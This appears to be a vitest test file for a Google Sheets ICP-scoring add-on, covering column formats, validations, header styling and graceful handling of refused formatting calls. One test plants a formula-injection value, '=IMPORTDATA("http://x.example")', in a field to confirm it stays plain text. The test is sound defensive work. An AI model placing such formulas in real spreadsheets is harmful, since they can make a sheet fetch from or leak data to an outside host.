import { describe, expect, it } from 'vitest';
import type { CellValue } from '../../src/host/core/api';
import type { Area } from '../../src/host/core/cells/a1';
import type { Document } from '../../src/host/core/document';
import type { SavedWorkbook } from '../../src/host/core/saved-workbook';
import { handsOn } from '../journeys/support/hands';
import { definitionWith, smallDefinition } from '../support/definitions';
import { accountsTab, configTab, openDefined, ROWS } from './support/defined-workbook';
import { listening } from './support/dialogs';
import { openAddon, openSample } from './support/open-addon';
import { picture } from './support/picture';
import { withoutColumns } from './support/without-columns';

const places = ['a full grid', 'free columns'] as const;

const FORMATS = ['Range.setNumberFormats', 'RangeList.setNumberFormat'];
const LOOKS = [
  ...FORMATS,
  'RangeList.setFontWeight',
  'RangeList.setBackground',
  ...['FontWeights', 'FontStyles', 'FontSizes', 'FontColors', 'Backgrounds'].map(
    (look) => `Range.set${look}`,
  ),
  ...['HorizontalAlignments', 'VerticalAlignments', 'WrapStrategies'].map(
    (look) => `Range.set${look}`,
  ),
  'Sheet.setColumnWidths',
  'Sheet.insertChart',
];
const OWN = ['M', 'N', 'O', 'P', 'Q', 'R', 'S', 'T'];

/** Keeps all but some texts out of an area, as a drop-down does. */
function only({ desk }: Document, area: Area, values: readonly string[]): void {
  desk.extras(desk.sheetNamed('Accounts').getSheetId()).validate(area, {
    criteria: { type: 'VALUE_IN_LIST', values },
    allowInvalid: false,
    helpText: '',
    showDropdown: true,
  });
}

function rulesIn(range: GoogleAppsScript.Spreadsheet.Range) {
  return range.getDataValidations().flat().filter(Boolean);
}

/** The small list, and its tab as its user has it. */
async function openList() {
  const addon = await openDefined();
  const sheet = handsOn(addon.document).spreadsheet.getSheetByName('Accounts')!;
  return { ...addon, sheet };
}

/** A list whose last column, or the free ones beside it too, hold plain text from a short list only. */
async function openChosen(where: (typeof places)[number]) {
  const addon = await openList();
  const { sheet } = addon;
  const isFull = where === 'a full grid';
  if (isFull) sheet.deleteColumns(13, sheet.getMaxColumns() - 12);
  const columns = isFull ? 1 : 15;
  sheet.getRange(1, 12, 1000, columns).setNumberFormat('@');
  only(addon.document, { row: 1, column: 12, rows: 1000, columns }, ['Notes', 'Yes', 'No']);
  return addon;
}

describe('what columns of ours inherit, they do not keep', () => {
  it.each(places)('by Score accounts, in %s', async (where) => {
    const { run, host, sheet, alerts } = await openChosen(where);
    await run('Score accounts');
    expect(alerts).toEqual([]);
    const shown = host.displayValues('Accounts').map((row) => row.slice(12, 15));
    expect(shown.slice(0, 3)).toEqual([
      ['ICP Tier', 'ICP Score', 'ICP Fit'],
      ['Tier 1', '100.0', '██████████'],
      ['Not ICP', '0.0', ''],
    ]);
    expect(rulesIn(sheet.getRange('M2:T900'))).toEqual([]);
    expect(sheet.getRange('N2').getNumberFormat()).toBe('0.0');
    expect(sheet.getRange('N900').getNumberFormat()).toBe('0.0');
    expect(sheet.getRange('L5').getDataValidation()).not.toBeNull();
    expect(sheet.getRange('L5').getNumberFormat()).toBe('@');
  });

  it('and a rule that a person sets on one of ours stays', async () => {
    const { run, document, sheet } = await openList();
    await run('Score accounts');
    const tiers = ['Tier 1', 'Tier 2', 'Not ICP', 'Excluded'];
    only(document, { row: 2, column: 13, rows: 5, columns: 1 }, tiers);
    sheet.getRange('N2:N6').setNumberFormat('0.00');
    sheet.getRange('O9').setValue(5).setNumberFormat('0');
    await run('Score accounts');
    expect(sheet.getRange('O9').getDisplayValue()).toBe('5');
    expect(sheet.getRange('M3').getDataValidation()).not.toBeNull();
    expect(sheet.getRange('N2').getDisplayValue()).toBe('100.00');
  });

  it('and columns that are added can be read, once: how wide a person makes them stays', async () => {
    const { run, document, sheet } = await openList();
    sheet.getRange('A1:L1').setFontWeight('bold');
    const others = () => withoutColumns(picture(document).tabs.Accounts, OWN).widths;
    const before = others();
    await run('Score accounts');
    const widths = () => OWN.map((_, own) => sheet.getColumnWidth(13 + own));
    expect(widths()).toEqual([86, 72, 78, 350, 246, 96, 88, 130]);
    expect(others()).toEqual(before);
    const weights = sheet.getRange('L1:T2').getFontWeights();
    expect(weights.map((row) => [...new Set(row)])).toEqual([['bold'], ['normal']]);
    sheet.setColumnWidths(13, 5, 90);
    sheet.getRange('M1:T1').setFontWeight('normal');
    await run('Score accounts');
    expect(new Set(widths().slice(0, 5))).toEqual(new Set([90]));
    expect(sheet.getRange('M1').getFontWeight()).toBe('normal');
  });

  it.each([
    ['as a report where it has no ground', '#ffffff', 'normal', '#e3eaf4', 'bold'],
    ['as its own header row where that has one', '#ffeeaa', 'normal', '#ffeeaa', 'normal'],
  ])('and headers look %s', async (_, ground, weight, shown, shownWeight) => {
    const { run, sheet } = await openList();
    sheet
      .getRange('A1:L1')
      .setBackground(ground)
      .setFontWeight(weight as 'normal');
    await run('Score accounts');
    expect(sheet.getRange('M1').getBackground().toLowerCase()).toBe(shown);
    expect(sheet.getRange('M1').getFontWeight()).toBe(shownWeight);
  });

  it.each(places)('by Insert score formulas, in %s', async (where) => {
    const { run, host, sheet, alerts } = await openChosen(where);
    await run('Insert score formulas');
    expect(alerts).toEqual([]);
    expect(host.formula('Accounts', 'M1')).toContain('=ICP_REPORT(');
    expect(host.displayValues('Accounts')[1]?.slice(12, 15)).toEqual(['100.0', 'Tier 1', '100%']);
    expect(rulesIn(sheet.getRange('M1:T9'))).toEqual([]);
    expect(sheet.getRange('L5').getDataValidation()).not.toBeNull();
  });
});

it('rows of a section that had none do not look as its header', async () => {
  const { host, run, document } = await openAddon([accountsTab()]);
  await run('Set up…');
  const ask = async (request: object) =>
    JSON.parse(String(await host.run('icpApi', [JSON.stringify(request)])));
  const { state } = await ask({ action: 'state', name: '' });
  expect(state.definition.exclusions).toEqual([]);
  const [excluded] = smallDefinition.exclusions;
  const definition = { ...state.definition, exclusions: [excluded, { ...excluded, id: 'X9' }] };
  const save = { action: 'save', name: '', base: state.version, author: 'Kim', note: '' };
  expect(await ask({ ...save, definition })).toMatchObject({ ok: true });
  const sheet = handsOn(document).spreadsheet.getSheetByName('ICP Config')!;
  const header = host.values('ICP Config').findIndex(([first]) => first === 'EXCLUSIONS') + 2;
  const shown = sheet.getRange(header, 1, 3, 3);
  expect(shown.getFontWeights().map(([weight]) => weight)).toEqual(['bold', 'normal', 'normal']);
  expect(new Set(shown.getBackgrounds().slice(1).flat())).toEqual(new Set(['#ffffff']));
});

describe('looks that Sheets refuses', () => {
  it('do not keep Score accounts from its scores, and no text becomes a formula', async () => {
    const evil = '=IMPORTDATA("http://x.example")';
    const definition = definitionWith({
      tiers: smallDefinition.tiers.map((tier) => ({
        ...tier,
        name: `=${tier.name}`,
        nextAction: evil,
      })),
      criteria: smallDefinition.criteria.map((one) => ({ ...one, name: `+${one.id}` })),
    });
    const addon = await openAddon([accountsTab(), configTab('ICP Config', definition)]);
    const { host, run, document, toasts, alerts } = addon;
    const before = picture(document);
    host.refuse('Accounts', FORMATS, 'Typed column');
    await run('Score accounts');
    expect(alerts).toEqual([]);
    expect(toasts.at(-1)).toMatch(
      /^Not set: number formats \(Typed column\)\. All else is there\.$/m,
    );
    const [headers = [], ...rows] = host.values('Accounts');
    expect(rows[0]?.[headers.indexOf('ICP Tier')]).toBe('=Tier 1');
    expect(rows[0]?.[headers.indexOf('ICP Next Action')]).toBe(evil);
    for (let row = 1; row <= ROWS.length + 1; row++) {
      for (const letter of OWN) expect(host.formula('Accounts', `${letter}${row}`)).toBe('');
    }
    expect(withoutColumns(picture(document).tabs.Accounts, OWN)).toEqual(
      withoutColumns(before.tabs.Accounts, []),
    );
    await run('Score accounts');
    expect(toasts.at(-1)).toContain('None in another tier than before.');
  });

  it('do not keep Insert score formulas from its formula', async () => {
    const { host, run, toasts, alerts } = await openDefined();
    host.refuse('Accounts', [...FORMATS, 'RangeList.clearDataValidations'], 'Typed column');
    await run('Insert score formulas');
    expect(alerts).toEqual([]);
    expect(host.displayValues('Accounts')[1]?.[13]).toBe('Tier 1');
    expect(toasts.at(-1)).toContain(
      'Not set: data validations, number formats (Typed column). All else is there.',
    );
  });

  it.each([
    ['Backtest', ['ICP Backtest', 'ICP Backtest Runs'], ', charts'],
    ['Discover patterns', ['ICP Patterns'], ''],
    ['Compare…', ['ICP Compare'], ''],
    ['Drift', ['ICP Drift'], ', charts'],
    ['One page', ['ICP One Page'], ''],
    ['Dashboard', ['ICP Dashboard'], ', charts'],
  ])('do not keep %s from its report', async (item, tabs, charts) => {
    const open = async () => {
      const told = listening();
      const prompt = () => ({ button: 'OK', text: 'current, v1' }) as const;
      const addon = await openAddon(await sample(), { dialogs: { ...told.dialogs, prompt } });
      return { ...addon, ...told };
    };
    const [plain, addon] = [await open(), await open()];
    await plain.run(item);
    for (const tab of ['ICP unfinished', 'ICP Backtest Runs']) {
      addon.host.refuse(tab, LOOKS, 'Unknown option');
    }
    await addon.run(item);
    expect(addon.alerts).toEqual([]);
    expect(addon.toasts.at(-1)).toContain(
      `Not set: number formats, colours and widths${charts} (Unknown option). All else is there.`,
    );
    for (const name of tabs) {
      expect(withoutDays(addon.host.values(name))).toEqual(withoutDays(plain.host.values(name)));
    }
    expect(addon.host.sheetNames()).toEqual(plain.host.sheetNames());
    expect(addon.host.activeSheet()).toBe(tabs[0]);
  });
});

let saved: SavedWorkbook | undefined;

async function sample(): Promise<SavedWorkbook> {
  saved ??= (await openSample()).document.save();
  return saved;
}

/** Without its format a day is a number. */
function withoutDays(values: readonly (readonly CellValue[])[]) {
  const plain = (value: CellValue) =>
    isDay(value) ? value.getTime() / 86_400_000 + 25_569 : value;
  return values.map((row) => row.map(plain));
}

function isDay(value: CellValue): value is Date {
  return Object.prototype.toString.call(value) === '[object Date]';
}
